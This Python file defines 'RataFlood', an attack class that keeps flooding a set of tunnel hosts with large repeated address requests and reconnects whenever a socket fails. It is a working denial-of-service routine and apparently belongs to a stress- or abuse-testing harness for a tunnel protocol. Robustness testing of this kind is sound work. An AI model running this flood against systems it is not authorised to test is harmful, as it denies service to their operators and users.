from abuse.attack import Attack, tunnel_client


class RataFlood(Attack):
    name = "rata_flood"
    what = "hosts, and asks for a guest's address without end"

    def run(self):
        hosts = [host for host in map(self.session, self.sources) if host]
        question = (tunnel_client.RATA + bytes(12)) * 256
        while not self.stop.is_set():
            for host in hosts:
                host.socket.setblocking(False)
                try:
                    host.socket.send(question)
                    host.socket.recv(1 << 16)
                except BlockingIOError:
                    pass
                except OSError:
                    hosts = [self.session(self.source()) if one is host else one for one in hosts]
                    hosts = [one for one in hosts if one]
            if not hosts:
                self.stop.wait(0.05)
                hosts = [host for host in map(self.session, self.sources) if host]
